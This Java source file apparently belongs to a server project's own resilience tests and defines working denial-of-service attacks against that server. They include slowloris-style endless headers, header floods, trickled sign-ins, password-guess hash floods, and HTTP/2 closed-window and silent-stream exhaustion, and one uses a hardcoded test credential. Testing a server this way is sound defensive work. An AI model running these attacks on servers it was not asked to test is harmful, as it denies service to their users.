package io.lading.server;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Base64;

/// Attacks that occupy memory or places of a server. Each writes its first bytes, and then further bytes
/// repeatedly until the server closes the connection.
enum Attack {
    /// An endless header of maximum size.
    ENDLESS_HEADERS {
        @Override
        void begin(OutputStream out, String host) throws IOException {
            write(out, "GET /api/health HTTP/1.1\r\nHost: " + host + "\r\n" + largeFields(30));
        }

        @Override
        void trickle(OutputStream out) throws IOException {
            write(out, "x");
        }
    },

    /// Thousands of header fields of a few bytes: each costs a hundred bytes in addition to its text.
    TINY_HEADERS {
        @Override
        void begin(OutputStream out, String host) throws IOException {
            StringBuilder fields = new StringBuilder("GET /api/health HTTP/1.1\r\nHost: " + host + "\r\n");
            for (int i = 0; i < 3000; i++) {
                fields.append("a").append(i).append(":b\r\n");
            }
            write(out, fields.toString());
        }

        @Override
        void trickle(OutputStream out) throws IOException {
            write(out, "a:b\r\n");
        }
    },

    /// Sign-ins with large header fields and a slowly sent document.
    TRICKLING_SIGN_INS {
        @Override
        void begin(OutputStream out, String host) throws IOException {
            write(out, signIn(host, 4000) + largeFields(30) + "\r\n{\"name\":");
        }

        @Override
        void trickle(OutputStream out) throws IOException {
            write(out, " ");
        }
    },

    /// Wrong passwords, each of which costs a hash computation.
    GUESSES {
        @Override
        void begin(OutputStream out, String host) throws IOException {
            String document = "{\"name\":\"guest-" + System.nanoTime() + "\",\"password\":\"a wrong guess\"}";
            write(out, signIn(host, document.length()) + "\r\n" + document);
        }

        @Override
        void trickle(OutputStream out) throws IOException {
            write(out, "\r\n");
        }
    },

    /// Idle persistent connections that send a line break now and then.
    LINE_BREAKS {
        @Override
        void begin(OutputStream out, String host) throws IOException {
            write(out, "GET /api/health HTTP/1.1\r\nHost: " + host + "\r\n\r\n");
        }

        @Override
        void trickle(OutputStream out) throws IOException {
            write(out, "\r\n");
        }
    },

    /// Endless documents of a signed-in user.
    ENDLESS_DOCUMENTS {
        @Override
        void begin(OutputStream out, String host) throws IOException {
            String pair = Base64.getEncoder().encodeToString("bob:builder".getBytes(StandardCharsets.UTF_8));
            write(
                    out,
                    "POST /api/files/known HTTP/1.1\r\nHost: " + host + "\r\nAuthorization: Basic " + pair
                            + "\r\nContent-Type: application/json\r\nContent-Length: 500000\r\n\r\n{\"files\":\""
                            + "x".repeat(400_000));
        }

        @Override
        void trickle(OutputStream out) throws IOException {
            write(out, "x");
        }
    },

    /// HTTP/2 requests with large header lists whose responses are blocked by the client's window.
    HTTP2_CLOSED_WINDOWS {
        @Override
        void begin(OutputStream out, String host) throws IOException {
            out.write(PREFACE);
            out.write(frame(SETTINGS, 0, 0, new byte[] {0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0}));
            for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
                out.write(frame(HEADERS, END_HEADERS | END_STREAM, stream, fields(host, 14)));
            }
            out.flush();
        }

        @Override
        void trickle(OutputStream out) throws IOException {
            out.write(frame(PING, 0, 0, new byte[8]));
            out.flush();
        }
    },

    /// HTTP/2 sign-ins whose documents are never sent.
    HTTP2_SILENT_STREAMS {
        @Override
        void begin(OutputStream out, String host) throws IOException {
            out.write(PREFACE);
            out.write(frame(SETTINGS, 0, 0, new byte[0]));
            for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
                out.write(frame(HEADERS, END_HEADERS, stream, fields(host, 14)));
            }
            out.flush();
        }

        @Override
        void trickle(OutputStream out) throws IOException {
            out.write(frame(PING, 0, 0, new byte[8]));
            out.flush();
        }
    };

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 1;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final byte INITIAL_WINDOW_SIZE = 4;
    private static final int STREAMS = 100;
    private static final int LARGE_FIELD = 900;

    /// Writes the bytes that occupy a place.
    abstract void begin(OutputStream out, String host) throws IOException;

    /// Writes the bytes that keep the place.
    abstract void trickle(OutputStream out) throws IOException;

    /// Whether the attack uses HTTP/2 frames.
    boolean http2() {
        return name().startsWith("HTTP2_");
    }

    private static void write(OutputStream out, String text) throws IOException {
        out.write(text.getBytes(StandardCharsets.US_ASCII));
        out.flush();
    }

    private static String largeFields(int count) {
        StringBuilder fields = new StringBuilder();
        for (int i = 0; i < count; i++) {
            fields.append("X-")
                    .append(i)
                    .append(": ")
                    .append("v".repeat(LARGE_FIELD))
                    .append("\r\n");
        }
        return fields.toString();
    }

    private static String signIn(String host, int length) {
        return "POST /api/session HTTP/1.1\r\nHost: " + host
                + "\r\nX-Lading-Client: web\r\nContent-Type: application/json\r\nContent-Length: " + length + "\r\n";
    }

    /// `POST /api/session` with large fields (RFC 7541, literals without indexing).
    private static byte[] fields(String host, int count) throws IOException {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.write(0x83);
        block.write(0x87);
        literal(block, ":path", "/api/session");
        literal(block, ":authority", host);
        literal(block, "content-type", "application/json");
        literal(block, "x-lading-client", "web");
        for (int i = 0; i < count; i++) {
            literal(block, "x-" + i, "v".repeat(LARGE_FIELD));
        }
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream block, String name, String value) throws IOException {
        block.write(0);
        text(block, name);
        text(block, value);
    }

    /// The length with a 7-bit prefix (RFC 7541 section 5.1), followed by the text.
    private static void text(ByteArrayOutputStream block, String text) throws IOException {
        int rest = text.length() - 127;
        block.write(Math.min(text.length(), 127));
        while (rest >= 128) {
            block.write(rest % 128 + 128);
            rest /= 128;
        }
        if (text.length() >= 127) {
            block.write(rest);
        }
        block.write(text.getBytes(StandardCharsets.US_ASCII));
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .putInt(payload.length << 8 | type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }
}
